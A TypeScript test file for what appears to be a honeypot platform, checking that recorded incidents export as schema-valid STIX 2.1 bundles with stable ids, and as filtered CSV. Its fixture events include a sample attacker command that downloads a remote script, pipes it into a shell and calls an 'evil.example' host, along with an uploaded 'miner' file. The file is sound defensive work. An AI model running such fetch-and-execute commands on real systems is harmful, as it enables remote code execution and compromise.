// Incidents as STIX 2.1: the bundle validates against the OASIS STIX 2.1 JSON schemas (vendored in
// test/fixtures/stix2.1, draft 2020-12, checked with ajv and ajv-formats), ids are stable across
// exports, and the download streams the same objects the pure mapping makes.
import { readdirSync, readFileSync } from 'node:fs'
import type http from 'node:http'
import type { AddressInfo } from 'node:net'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import type { Incident } from '@decnet/core'
import type { IncidentWrite } from '@decnet/db'
import { incidentFixture } from '@decnet/db/testing'
import { Ajv2020 } from 'ajv/dist/2020.js'
import addFormats from 'ajv-formats'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type StixEvent, type StixObject, stixBundle } from '../src/exports/stix.ts'
import { createApiServer, listen } from '../src/server.ts'
import { inProcessApiOfSuite, NO_WORKERS } from './support/in-process.ts'

const SCHEMAS = path.join(path.dirname(fileURLToPath(import.meta.url)), 'fixtures/stix2.1/schemas')
const BUNDLE_SCHEMA_ID =
  'http://raw.githubusercontent.com/oasis-open/cti-stix2-json-schemas/stix2.1/schemas/common/bundle.json'

/** Every vendored schema registered by its $id, so the bundle's relative $refs resolve offline. */
function bundleValidator() {
  // unicodeRegExp off: the schemas write `\-` in patterns, valid in plain but not in `u` regexes.
  const ajv = new Ajv2020({ strict: false, allErrors: true, unicodeRegExp: false })
  addFormats.default(ajv)
  for (const dir of readdirSync(SCHEMAS)) {
    for (const file of readdirSync(path.join(SCHEMAS, dir))) {
      ajv.addSchema(JSON.parse(readFileSync(path.join(SCHEMAS, dir, file), 'utf8')))
    }
  }
  const validate = ajv.getSchema(BUNDLE_SCHEMA_ID)
  if (!validate) throw new Error('bundle schema not registered')
  return validate
}

const UPLOAD_SHA = 'a'.repeat(64)

const INCIDENT: Incident = {
  id: '00000000-0000-7000-8000-000000000001',
  attackerIp: '203.0.113.7',
  decky: 'web-01',
  deckies: ['web-01', 'db-01'],
  services: ['http', 'ssh', 'ftp'],
  severity: 'critical',
  reasons: ['file upload on ftp', "command 'wget' on ssh"],
  state: 'open',
  firstSeen: '2026-12-03T10:00:00.000Z',
  lastSeen: '2026-12-03T10:05:00.000Z',
  eventCount: 42,
  acknowledgedBy: null,
  acknowledgedAt: null,
  resolvedAt: null,
  note: null,
}

const EVENTS: StixEvent[] = [
  {
    timestamp: '2026-12-03T10:00:00Z',
    service: 'http',
    eventType: 'request',
    attackerIp: '203.0.113.7',
    fields: {
      path: "/admin/login.php?next=/x&q='1'",
      host: 'web-01.corp.local',
      headers: '{"referer":"http://ref.example/"}',
    },
  },
  {
    timestamp: '2026-12-03T10:01:00Z',
    service: 'ssh',
    eventType: 'command',
    attackerIp: '203.0.113.7',
    fields: { command: 'cd /tmp; wget http://198.51.100.66/x.sh -O- | sh; curl https://evil.example/p?a=1' },
  },
  {
    timestamp: '2026-12-03T10:02:00Z',
    service: 'ftp',
    eventType: 'upload',
    attackerIp: '203.0.113.7',
    fields: { path: '/pub/miner', bytes: 10, sha256: UPLOAD_SHA.toUpperCase() },
  },
]

const byType = (objects: StixObject[], type: string) => objects.filter((object) => object.type === type)

describe('the STIX 2.1 mapping', () => {
  const validate = bundleValidator()

  it('produces a bundle the STIX 2.1 schemas accept', () => {
    const bundle = stixBundle([{ incident: INCIDENT, events: EVENTS }])
    const valid = validate(bundle)
    expect(validate.errors ?? [], JSON.stringify(validate.errors?.slice(0, 5))).toEqual([])
    expect(valid).toBe(true)
    // The validator does refuse what STIX forbids (it is not vacuous): an indicator without pattern,
    // a sighting whose count is out of range.
    const indicator = byType(bundle.objects, 'indicator')[0] as StixObject
    const sighting = byType(bundle.objects, 'sighting')[0] as StixObject
    expect(validate({ ...bundle, objects: [{ ...indicator, pattern: undefined }] })).toBe(false)
    expect(validate({ ...bundle, objects: [{ ...sighting, count: 1_000_000_000 }] })).toBe(false)
  })

  it('observes the source IP, the URLs requested or fetched, and the uploaded file', () => {
    const { objects } = stixBundle([{ incident: INCIDENT, events: EVENTS }])
    expect(byType(objects, 'ipv4-addr').map((o) => o.value)).toEqual(['203.0.113.7'])
    expect(byType(objects, 'url').map((o) => o.value)).toEqual([
      'http://web-01.corp.local/admin/login.php?next=/x&q=%271%27',
      'http://198.51.100.66/x.sh',
      'https://evil.example/p?a=1',
    ])
    expect(byType(objects, 'file')).toEqual([
      expect.objectContaining({ hashes: { 'SHA-256': UPLOAD_SHA }, name: 'miner' }),
    ])
    const [observed] = byType(objects, 'observed-data')
    expect(observed).toMatchObject({ number_observed: 42, first_observed: INCIDENT.firstSeen })
    // One indicator and one sighting (by DECNET) per observable.
    const indicators = byType(objects, 'indicator')
    expect(indicators).toHaveLength(5)
    expect(indicators.map((i) => i.pattern)).toContain(
      "[url:value = 'http://web-01.corp.local/admin/login.php?next=/x&q=%271%27']",
    )
    expect(indicators.map((i) => i.pattern)).toContain(`[file:hashes.'SHA-256' = '${UPLOAD_SHA}']`)
    const sightings = byType(objects, 'sighting')
    expect(sightings.map((s) => s.sighting_of_ref).sort()).toEqual(indicators.map((i) => i.id).sort())
    expect(sightings.every((s) => (s.observed_data_refs as string[])[0] === observed?.id)).toBe(true)
  })

  it('uses the same ids on every export, and STIX`s own ids for observables', () => {
    const first = stixBundle([{ incident: INCIDENT, events: EVENTS }])
    const again = stixBundle([{ incident: { ...INCIDENT }, events: [...EVENTS] }])
    expect(again).toEqual(first)
    // Content-derived: UUID version 5.
    for (const object of first.objects) expect(object.id).toMatch(/--[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-/)
    const other = stixBundle([
      { incident: { ...INCIDENT, id: '00000000-0000-7000-8000-000000000002' }, events: EVENTS },
    ])
    expect(other.id).not.toBe(first.id)
    // The same address in another incident is the same observable.
    expect(byType(other.objects, 'ipv4-addr')[0]?.id).toBe(byType(first.objects, 'ipv4-addr')[0]?.id)
  })
})

describe('exports.incidents', () => {
  const api = inProcessApiOfSuite({ env: NO_WORKERS, viewer: 'viewer1' })
  const validate = bundleValidator()
  let server: http.Server
  let base: string

  /** INCIDENT as the grouping worker stores it (the fixture's worker-side fields). */
  const stored = (id: string, overrides: Partial<IncidentWrite> = {}): IncidentWrite =>
    incidentFixture(0, {
      ...INCIDENT,
      id,
      firstSeen: new Date(INCIDENT.firstSeen),
      lastSeen: new Date(INCIDENT.lastSeen),
      acknowledgedAt: null,
      resolvedAt: null,
      updatedAt: new Date(INCIDENT.lastSeen),
      ...overrides,
    })

  beforeAll(async () => {
    server = createApiServer(api.services)
    const address: AddressInfo = await listen(server, 0, '127.0.0.1')
    base = `http://127.0.0.1:${address.port}`
    await api.services.db.logs.ingest(
      EVENTS.map((event) => ({
        timestamp: new Date(event.timestamp),
        decky: 'web-01',
        service: event.service,
        eventType: event.eventType,
        attackerIp: event.attackerIp ?? '',
        rawLine: `${event.eventType} on ${event.service}`,
        fields: event.fields,
      })),
    )
    await api.services.db.incidents.inBatch((batch) =>
      batch.saveIncidents([
        stored(INCIDENT.id),
        stored('00000000-0000-7000-8000-000000000002', {
          attackerIp: '2001:db8::7',
          severity: 'low',
          reasons: ['connection on http'],
          state: 'resolved',
        }),
      ]),
    )
  })
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())))

  const download = async (url: string) => {
    const response = await fetch(`${base}${url}`)
    return {
      status: response.status,
      type: response.headers.get('content-type'),
      text: await response.text(),
    }
  }

  it('streams a STIX bundle that validates, with what the incident`s events observed', async () => {
    const ticket = await api.viewer.exports.incidents({ format: 'stix' })
    expect(ticket.filename).toMatch(/\.stix\.json$/)
    const { status, type, text } = await download(ticket.url)
    expect(status).toBe(200)
    expect(type).toBe('application/stix+json;version=2.1')
    const bundle = JSON.parse(text)
    expect(validate(bundle), JSON.stringify(validate.errors?.slice(0, 5))).toBe(true)
    const objects = bundle.objects as StixObject[]
    expect(byType(objects, 'ipv4-addr').map((o) => o.value)).toEqual(['203.0.113.7'])
    expect(byType(objects, 'ipv6-addr').map((o) => o.value)).toEqual(['2001:db8::7'])
    expect(byType(objects, 'url')).toHaveLength(3)
    expect(byType(objects, 'file')).toHaveLength(1)
    expect(byType(objects, 'observed-data')).toHaveLength(2)
    // Streamed or built in memory, the same incident gives the same objects.
    const again = JSON.parse(
      (await download((await api.viewer.exports.incidents({ format: 'stix' })).url)).text,
    )
    expect(again.id).toBe(bundle.id)
  })

  it('filters by state and severity, and writes rows as CSV', async () => {
    const ticket = await api.viewer.exports.incidents({ format: 'csv', minSeverity: 'high', state: 'open' })
    const lines = (await download(ticket.url)).text.trimEnd().split('\r\n')
    expect(lines).toHaveLength(2)
    expect(lines[0]).toBe(
      'id,attackerIp,decky,deckies,services,severity,reasons,state,firstSeen,lastSeen,eventCount,acknowledgedBy,acknowledgedAt,resolvedAt,note',
    )
    expect(lines[1]).toContain(INCIDENT.id)
    expect(lines[1]).toContain(',critical,')
  })
})
